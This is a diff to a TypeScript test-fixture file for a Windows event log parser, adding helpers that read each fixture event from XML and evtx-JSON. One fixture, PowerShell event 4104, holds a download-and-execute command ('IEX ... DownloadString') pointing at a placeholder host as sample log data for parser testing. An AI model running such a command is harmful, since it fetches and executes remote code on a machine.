@@ -4,6 +4,9 @@
  * learn.microsoft.com/windows/security/threat-protection/auditing/event-NNNN). One description
  * renders as event XML and as evtx-dump JSON, so both readers are tested on the same event.
  */
+import assert from "node:assert/strict";
+import { parseEvents } from "./index";
+import type { ParsedEvent } from "./types";
 
 export interface WinEventSpec {
   channel: string;
@@ -117,3 +120,15 @@ export const WINDOWS_EVENTS: Record<string, WinEventSpec> = {
   "7040": { channel: "System", provider: "Service Control Manager", id: 7040, data: { param1: "Background Intelligent Transfer Service", param2: "demand start", param3: "auto start", param4: "BITS" } },
   "4104": { channel: "Microsoft-Windows-PowerShell/Operational", provider: "Microsoft-Windows-PowerShell", id: 4104, data: { MessageNumber: "1", MessageTotal: "1", ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", ScriptBlockId: "{11111111-2222-3333-4444-555555555555}", Path: "" } },
 };
+
+/** One pasted event, read (exactly one event, else the problems in the message). */
+export function readOne(text: string): ParsedEvent {
+  const r = parseEvents(text);
+  assert.equal(r.events.length, 1, JSON.stringify(r.problems));
+  return r.events[0]!;
+}
+
+/** Both renderings of one event, read. */
+export function bothRenderings(spec: WinEventSpec): [string, ParsedEvent][] {
+  return [["xml", readOne(winXml(spec))], ["evtx-json", readOne(evtxJson(spec))]];
+}
